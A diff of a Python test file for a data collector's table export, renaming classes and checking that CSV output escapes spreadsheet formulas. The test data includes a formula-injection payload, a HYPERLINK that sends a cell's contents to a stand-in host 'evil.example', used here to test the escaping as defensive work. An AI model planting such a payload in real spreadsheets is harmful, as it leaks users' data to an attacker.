@@ -8,7 +8,7 @@ import pytest
 
 from collector.parquet import columns, output
 from collector.spreadsheet import escape_formula
-from collector.web.tables import Table, written
+from collector.web.tables import DataTable, encode
 
 RUN = [
     '=HYPERLINK("http://evil.example/?"&A1)',
@@ -59,13 +59,13 @@ def read(data: bytes) -> list[list[str]]:
 
 
 def test_the_pages_csv_quotes_formulas_and_leaves_numbers():
-    table = Table(("name", "change"), [(text, -1.5) for text in (*RUN, *LEFT)])
-    lines = read(written(table, "csv"))[1:]
+    table = DataTable(("name", "change"), [(text, -1.5) for text in (*RUN, *LEFT)])
+    lines = read(encode(table, "csv"))[1:]
     assert lines == [[str(escape_formula(text)), "-1.5"] for text in (*RUN, *LEFT)]
 
 
 def test_json_holds_every_text_as_it_came():
-    assert b'"=1+1"' in written(Table(("name",), [("=1+1",)]), "json")
+    assert b'"=1+1"' in encode(DataTable(("name",), [("=1+1",)]), "json")
 
 
 def test_an_exports_csv_quotes_formulas_and_leaves_numbers():
